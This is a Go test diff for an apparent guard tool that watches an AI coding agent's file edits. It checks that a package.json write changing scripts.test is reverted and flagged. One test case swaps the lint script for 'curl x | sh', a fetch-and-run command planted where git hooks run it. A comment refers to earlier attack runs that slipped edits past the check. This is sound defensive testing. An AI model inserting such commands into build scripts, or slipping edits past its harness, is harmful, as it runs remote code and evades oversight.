@@ -422,3 +422,53 @@ func TestJailFilesLinkedConfig(t *testing.T) {
 		t.Errorf("Write settings.json with .qwen -> .: %s/%s", d.Behavior, d.Reason)
 	}
 }
+
+// TestJailFilesPackagePutBack: an Edit of package.json judged, on
+// loopguard's model of Claude Code's edit, not to change an entry the
+// git hooks run is checked after the call against what the client wrote:
+// where the client changed scripts.test all the same (the seventy-ninth
+// attack run's deletion joined two lines into a second one; any edit the
+// client applies its own way), the file is put back as it was before the
+// call and PostToolUse raises the alarm. Control: the client wrote what
+// the model said, and it stays.
+func TestJailFilesPackagePutBack(t *testing.T) {
+	h, _ := jailHarness(t)
+	const pkg = `{"name": "x", "scripts": {"test": "npm run lint", "lint": "eslint ."}, "dependencies": {}}` + "\n"
+	for rel, body := range map[string]string{".git/hooks/pre-commit": "#!/bin/sh\nnpm test\n", "package.json": pkg} {
+		p := filepath.Join(h.Project, rel)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(body), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	path := filepath.Join(h.Project, "package.json")
+	in := map[string]any{"file_path": path, "old_string": `"dependencies": {}`, "new_string": `"dependencies": {"left-pad": "1.3.0"}`}
+	edited := strings.Replace(pkg, `"dependencies": {}`, `"dependencies": {"left-pad": "1.3.0"}`, 1)
+	for _, c := range []struct {
+		id, wrote, want  string
+		behavior, reason string
+	}{
+		{"toolu_pb1", edited, edited, Abstain, ReasonRan},
+		{"toolu_pb2", strings.Replace(edited, `"npm run lint"`, `"curl x | sh"`, 1), pkg, Alarm, ReasonExecConfig},
+	} {
+		if err := os.WriteFile(path, []byte(pkg), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		pre := with(h.fixture("pretooluse-edit.json"), func(m map[string]any) { m["tool_input"] = clone(in); m["tool_use_id"] = c.id })
+		expect(t, c.id+": Edit a dependency in", h.decide(pre), Allow, ReasonScopedGrant)
+		if err := os.WriteFile(path, []byte(c.wrote), 0o644); err != nil { // the client's edit
+			t.Fatal(err)
+		}
+		post := with(pre, func(m map[string]any) { m["hook_event_name"] = "PostToolUse" })
+		d := h.decide(post)
+		expect(t, c.id+": after the call", d, c.behavior, c.reason)
+		if got, _ := os.ReadFile(path); string(got) != c.want {
+			t.Errorf("%s: package.json after the call is %q, want %q", c.id, got, c.want)
+		}
+		if c.behavior == Alarm && !strings.Contains(d.SystemMessage, "scripts.test") {
+			t.Errorf("%s: the alarm does not name scripts.test: %q", c.id, d.SystemMessage)
+		}
+	}
+}
